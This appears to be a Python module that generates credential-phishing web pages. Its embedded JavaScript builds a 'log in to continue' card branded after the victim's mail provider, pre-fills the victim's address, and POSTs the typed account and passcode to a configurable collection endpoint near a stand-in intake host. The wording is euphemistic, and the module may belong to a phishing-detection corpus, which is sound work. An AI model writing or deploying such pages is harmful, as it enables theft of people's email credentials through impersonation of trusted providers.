"""How the pages of this half are written: built by a module out of settings, as a bundled application is."""

import json
from collections.abc import Mapping

PORTAL = "https://portal.notice-board.test"
KEEPER = "https://intake.example.net"

_BUILD = """
const h = (tag, set = {}, ...inside) => {
  const made = Object.assign(document.createElement(tag), set);
  made.append(...inside.filter(Boolean)); return made;
};
const kept = JSON.parse(document.getElementById('settings').textContent);
const root = document.getElementById('app');
const firm = host => host ? host.split('.')[0].replace(/^./, c => c.toUpperCase()) + ' Mail' : 'Mail';
const owner = host => (kept.owners.find(each => each.hosts.includes(host)) || {}).name || firm(host);
const mailbox = text => (String(text || '').match(/[\\w.+-]+@[\\w.-]+\\.\\w+/) || [''])[0];
const card = (name, who, more = {}) => h('main', {className: 'card'},
  more.mark === false ? null : h('h2', {textContent: more.words || `${name}: log in to continue`}),
  h('label', {textContent: 'Account '}, h('input', {type: 'text', id: 'userid', value: who || ''})),
  h('label', {textContent: 'Passcode '}, h('input', {type: more.type || 'password', id: 'passcode'})),
  h('button', {type: 'button', id: 'enter', textContent: 'Continue', onclick: () => hand()}));
let hand = () => fetch(kept.to, {method: 'POST', headers: {'content-type': 'application/json'},
  body: JSON.stringify({userid: document.getElementById('userid').value, passcode: document.getElementById('passcode').value})});
"""
_OWNERS = [
    {"name": "Provider A", "hosts": ["gmail.com", "googlemail.com"]},
    {"name": "Provider B", "hosts": ["outlook.com", "hotmail.com", "live.com"]},
]
_LOOKS = (
    "body{margin:0;font:15px Georgia,serif;background:#f2efe8}.card{width:26em;margin:4em auto;padding:2em;"
    "background:#fff;border-radius:12px}label{display:block;margin:1em 0}input{width:100%;padding:.6em}"
)


def application(
    code: str, title: str = "Welcome", settings: Mapping[str, object] | None = None, head: str = ""
) -> str:
    """A document whose module builds it; `settings` go with it as JSON."""
    kept = json.dumps({"owners": _OWNERS, "to": "api/enter", **(settings or {})})
    return (
        f'<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><meta name="viewport" '
        f'content="width=device-width"><title>{title}</title><style>{_LOOKS}</style>{head}</head><body>'
        f'<div id="app"></div><script type="application/json" id="settings">{kept}</script>'
        f'<script type="module">{_BUILD}{code}</script></body></html>'
    )


def plain(title: str, *inside: str, code: str = "") -> str:
    """A document as a site's own system writes it."""
    module = f'<script type="module">{code}</script>' if code else ""
    return (
        f'<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>{title}</title><style>{_LOOKS}'
        f'nav a{{margin-inline-end:1em}}</style></head><body><nav><a href="/">Start</a><a href="/about">About us</a>'
        f'</nav><main class="card">{"".join(inside)}</main><footer><a href="/legal">Legal</a></footer>{module}</body></html>'
    )
